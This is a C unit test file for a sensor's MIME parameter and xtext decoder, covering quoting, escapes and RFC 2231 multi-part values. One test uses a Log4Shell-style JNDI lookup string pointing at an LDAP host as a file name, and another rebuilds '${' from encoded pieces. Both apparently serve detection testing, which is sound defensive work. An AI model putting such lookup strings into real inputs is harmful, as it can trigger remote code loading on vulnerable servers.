/* Tests of sensor/codec/mimeparam and xtext: parameters as mail programs write them. */
#include "sensor/codec/mimeparam.h"
#include "sensor/codec/xtext.h"
#include "tests/unit/runner.h"

static void expect(struct span value, struct span name, enum mimeparam_form form, struct span text)
{
    struct sbuf scratch = sbuf_with_cap(1000);
    struct span got = {NULL, 0};
    CU_ASSERT_EQUAL(mimeparam_find(value, name, &scratch, &got), form);
    CU_ASSERT(span_equal(got, text));
    sbuf_free(&scratch);
}

static void the_main_value_has_no_blanks_and_comments(void)
{
    CU_ASSERT(span_equal(mimeparam_main(SPAN(" text/plain ; a=b")), SPAN("text/plain")));
    CU_ASSERT(span_equal(mimeparam_main(SPAN("(x (y) \\) )text/plain(z)")), SPAN("text/plain")));
    CU_ASSERT_EQUAL(mimeparam_main(SPAN("")).len, 0);
    CU_ASSERT_EQUAL(mimeparam_main(SPAN("(never closed")).len, 0);
}

static void plain_values_lie_in_the_header(void)
{
    struct span value = SPAN("a/b; charset=utf-8; Name = \"x y\" ;boundary=\r\n\tq");
    expect(value, SPAN("charset"), MIMEPARAM_PLAIN, SPAN("utf-8"));
    expect(value, SPAN("name"), MIMEPARAM_PLAIN, SPAN("x y"));
    expect(value, SPAN("boundary"), MIMEPARAM_PLAIN, SPAN("q"));
    expect(value, SPAN("nam"), MIMEPARAM_NONE, SPAN(""));
}

static void a_quoted_value_may_hold_separators_and_escapes(void)
{
    expect(SPAN("x; name=\"a;b=c\"; b=2"), SPAN("name"), MIMEPARAM_PLAIN, SPAN("a;b=c"));
    expect(SPAN("x; name=\"a;b=c\"; b=2"), SPAN("b"), MIMEPARAM_PLAIN, SPAN("2"));
    expect(SPAN("x; name=\"a\\\"b\\\\\""), SPAN("name"), MIMEPARAM_ESCAPED, SPAN("a\"b\\"));
    expect(SPAN("x; name=\"a\r\n b\""), SPAN("name"), MIMEPARAM_ESCAPED, SPAN("a b"));
    expect(SPAN("x; name=\"open"), SPAN("name"), MIMEPARAM_PLAIN, SPAN("open"));
    expect(SPAN("x; name=\"open\\"), SPAN("name"), MIMEPARAM_ESCAPED, SPAN("open\\"));
}

static void what_should_be_quoted_is_taken_up_to_the_semicolon(void)
{
    expect(SPAN("x; filename=${jndi:ldap://h/a b}.txt; y=1"), SPAN("filename"), MIMEPARAM_PLAIN,
           SPAN("${jndi:ldap://h/a b}.txt"));
    expect(SPAN("x;;; ; novalue; =3; filename=ok"), SPAN("filename"), MIMEPARAM_PLAIN, SPAN("ok"));
    expect(SPAN("x; (c;d=e) name=ok"), SPAN("name"), MIMEPARAM_PLAIN, SPAN("ok"));
}

/* RFC 2231 section 4.1 has this very example. */
static void pieces_and_charsets_are_put_together(void)
{
    expect(SPAN("application/x-stuff;\r\n title*0*=us-ascii'en'This%20is%20even%20more%20;\r\n"
                " title*1*=%2A%2A%2Afun%2A%2A%2A%20;\r\n title*2=\"isn't it!\""),
           SPAN("title"), MIMEPARAM_EXTENDED, SPAN("This is even more ***fun*** isn't it!"));
    expect(SPAN("x; filename*=iso-8859-1''%A3%20rates"), SPAN("filename"), MIMEPARAM_EXTENDED,
           SPAN("\xc2\xa3 rates"));
}

static void pieces_count_by_number_up_to_a_hole(void)
{
    expect(SPAN("x; f*1=b; f*0=a; f*3=d"), SPAN("f"), MIMEPARAM_EXTENDED, SPAN("ab"));
    expect(SPAN("x; f*1=b; f=plain"), SPAN("f"), MIMEPARAM_PLAIN, SPAN("plain"));
    expect(SPAN("x; f*0=a; f=plain"), SPAN("f"), MIMEPARAM_EXTENDED, SPAN("a"));
    expect(SPAN("x; f*99999999999999999999=a; f*x=b"), SPAN("f"), MIMEPARAM_NONE, SPAN(""));
    expect(SPAN("x; f*0*=no-quotes%24; f*1*=%7b"), SPAN("f"), MIMEPARAM_EXTENDED,
           SPAN("no-quotes${"));
}

static void xtext_is_plus_and_two_digits(void)
{
    struct sbuf out = sbuf_with_cap(100);
    CU_ASSERT_EQUAL(xtext_decode(SPAN("a+2Bb+3dc+"), &out), 2);
    CU_ASSERT(span_equal(sbuf_span(&out), SPAN("a+b=c+")));
    sbuf_reset(&out);
    CU_ASSERT_EQUAL(xtext_decode(SPAN("+2+G0"), &out), 0);
    CU_ASSERT(span_equal(sbuf_span(&out), SPAN("+2+G0")));
    sbuf_free(&out);
}

static void file_names_are_taken_one_by_one(void)
{
    struct span headers = SPAN("X: filename=no\r\nContent-Disposition: form-data; name=a\r\n"
                               "content-disposition : form-data; filename=\"\"\r\n"
                               "Content-Disposition: attachment; filename=b.txt\r\nLast: 1");
    struct sbuf name = sbuf_with_cap(64);
    sbuf_add(&name, SPAN("old"));
    CU_ASSERT(mimeparam_take_file_name(&headers, &name));
    CU_ASSERT_EQUAL(name.len, 0);
    CU_ASSERT(mimeparam_take_file_name(&headers, &name));
    CU_ASSERT(span_equal(sbuf_span(&name), SPAN("b.txt")));
    CU_ASSERT(span_equal(headers, SPAN("Last: 1")));
    CU_ASSERT(!mimeparam_take_file_name(&headers, &name));
    CU_ASSERT(span_equal(sbuf_span(&name), SPAN("b.txt")));
    sbuf_free(&name);
}

static CU_TestInfo tests[] = {
    {"the_main_value_has_no_blanks_and_comments", the_main_value_has_no_blanks_and_comments},
    {"plain_values_lie_in_the_header", plain_values_lie_in_the_header},
    {"a_quoted_value_may_hold_separators_and_escapes",
     a_quoted_value_may_hold_separators_and_escapes},
    {"what_should_be_quoted_is_taken_up_to_the_semicolon",
     what_should_be_quoted_is_taken_up_to_the_semicolon},
    {"pieces_and_charsets_are_put_together", pieces_and_charsets_are_put_together},
    {"pieces_count_by_number_up_to_a_hole", pieces_count_by_number_up_to_a_hole},
    {"file_names_are_taken_one_by_one", file_names_are_taken_one_by_one},
    {"xtext_is_plus_and_two_digits", xtext_is_plus_and_two_digits},
    CU_TEST_INFO_NULL,
};

int main(void)
{
    CU_SuiteInfo suites[] = {
        {"mime parameters", NULL, NULL, NULL, NULL, tests},
        CU_SUITE_INFO_NULL,
    };
    return run_suites(suites);
}
